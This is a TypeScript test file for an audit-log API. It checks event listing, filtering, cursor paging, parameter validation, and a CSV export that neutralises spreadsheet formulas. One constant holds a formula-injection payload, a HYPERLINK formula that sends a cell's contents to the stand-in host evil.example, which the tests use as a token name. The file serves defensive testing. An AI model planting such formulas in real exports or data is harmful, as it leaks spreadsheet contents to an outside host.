import { describe, expect, it } from "vitest";
import type { ApiErrorBody, AuditPageDto, CreatedApiTokenDto } from "@/app/_lib/dto";
import { GET as auditRoute } from "@/app/api/audit/route";
import { DELETE as revokeTokenRoute } from "@/app/api/tokens/[id]/route";
import { POST as createTokenRoute } from "@/app/api/tokens/route";
import { POST as createUserRoute } from "@/app/api/users/route";
import { getDb } from "@/app/_server/db";
import { call, type CallAs } from "../../helpers/api";
import { codeOf, PASSWORD } from "./accounts";

const API = "http://heimdall.test/api";
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")';

const audit = (query = "", as: CallAs = "admin") => call<AuditPageDto & Partial<ApiErrorBody>>(auditRoute, { url: `${API}/audit${query}`, as });

/** Five events: a user and a token created from 198.51.100.9, the token revoked, then an admin token with a formula for a name creates a user. */
async function someHistory(): Promise<{ tokenId: string; formulaTokenId: string }> {
  await getDb().team.create({ data: { slug: "payments", name: "Payments" } });
  const from = { "x-forwarded-for": "198.51.100.9, 10.0.0.1" };
  await call(createUserRoute, { url: `${API}/users`, body: { email: "member@example.com", role: "member", team: "payments", password: PASSWORD }, headers: from });
  const token = await call<CreatedApiTokenDto>(createTokenRoute, { url: `${API}/tokens`, body: { name: "ci", team: "payments", scopes: ["scan"] }, headers: from });
  await call(revokeTokenRoute, { method: "DELETE", url: `${API}/tokens/${token.body.id}`, params: { id: token.body.id } });
  const formula = await call<CreatedApiTokenDto>(createTokenRoute, { url: `${API}/tokens`, body: { name: FORMULA_NAME, admin: true } });
  await call(createUserRoute, { url: `${API}/users`, body: { email: "viewer@example.com", role: "viewer", password: PASSWORD }, as: { bearer: formula.body.token } });
  return { tokenId: token.body.id, formulaTokenId: formula.body.id };
}

describe("GET /api/audit", () => {
  it("lists events newest first with actor, target, what changed and the client address", async () => {
    const { tokenId, formulaTokenId } = await someHistory();
    const answer = await audit();
    expect(answer.status).toBe(200);
    expect(answer.body.nextBefore).toBeNull();
    expect(answer.body.events.map((event) => [event.action, event.actorLabel])).toEqual([
      ["user.create", FORMULA_NAME],
      ["token.create", "integration tests"],
      ["token.revoke", "integration tests"],
      ["token.create", "integration tests"],
      ["user.create", "integration tests"],
    ]);
    expect(answer.body.events[0]).toMatchObject({ actor: `token:${formulaTokenId}`, targetType: "user", details: { email: "viewer@example.com", role: "viewer", team: null }, ip: null });
    expect(answer.body.events[2]).toMatchObject({ targetType: "token", targetId: tokenId, details: { name: "ci", team: "payments", admin: false } });
    expect(answer.body.events[4]).toMatchObject({ ip: "198.51.100.9", at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) });
    expect(JSON.stringify(answer.body)).not.toMatch(/hmd_[\w-]{20,}|correct horse|argon2/);
  });

  it("filters by action (exact, or a kind ending in a dot), actor (reference or label) and target type", async () => {
    const { formulaTokenId } = await someHistory();
    const actions = async (query: string) => (await audit(query)).body.events.map((event) => event.action);
    expect(await actions("?action=user.create")).toEqual(["user.create", "user.create"]);
    expect(await actions("?action=token.")).toEqual(["token.create", "token.revoke", "token.create"]);
    expect(await actions(`?actor=token:${formulaTokenId}`)).toEqual(["user.create"]);
    expect(await actions(`?actor=${encodeURIComponent(FORMULA_NAME)}`)).toEqual(["user.create"]);
    expect(await actions("?targetType=token&action=token.revoke")).toEqual(["token.revoke"]);
    expect(await actions("?action=repository.delete")).toEqual([]);
  });

  it("pages with limit and the nextBefore cursor", async () => {
    await someHistory();
    const first = await audit("?limit=2");
    expect(first.body.events.map((event) => event.action)).toEqual(["user.create", "token.create"]);
    const second = await audit(`?limit=2&before=${first.body.nextBefore}`);
    expect(second.body.events.map((event) => event.action)).toEqual(["token.revoke", "token.create"]);
    const last = await audit(`?limit=2&before=${second.body.nextBefore}`);
    expect(last.body).toMatchObject({ events: [{ action: "user.create" }], nextBefore: null });
  });

  it.each([
    ["?limit=501", /limit must be at most 500/],
    ["?limit=0", /limit must be at least 1/],
    ["?limit=ten", /limit must be a number/],
    ["?before=abc", /before must be an event id/],
    ["?format=xml", /format must be json or csv/],
    ["?user=someone", /unknown parameter user/],
  ])("refuses %s with 400", async (query, message) => {
    const answer = await audit(query);
    expect(codeOf(answer)).toBe("400 invalid_request");
    expect(answer.body.error?.message).toMatch(message);
  });

  it("exports CSV whose cells a spreadsheet cannot run as formulas", async () => {
    await someHistory();
    const answer = await call<string>(auditRoute, { url: `${API}/audit?format=csv&limit=4` });
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(answer.headers.get("content-disposition")).toBe('attachment; filename="heimdall-audit.csv"');
    expect(answer.headers.get("x-next-before")).toMatch(/^\d+$/);
    const lines = answer.body.split("\r\n");
    expect(lines[0]).toBe("id,at,actor,actorLabel,action,targetType,targetId,ip,details");
    expect(lines).toHaveLength(6);
    expect(lines.at(-1)).toBe("");
    // The token's name, as the actor of the newest event: quoted (it holds quotes and a comma) and neutralised.
    expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",user.create,user,`);
    // Details as JSON (jsonb orders its keys its own way), quoted.
    expect(lines[1]).toMatch(/,"\{[^\r\n]*""email"":""viewer@example.com""[^\r\n]*\}"$/);
    // The token created with a formula for a name: the name inside the details is JSON, which starts with `{`.
    expect(lines[2]).toContain('""name"":""=HYPERLINK(');
  });
});
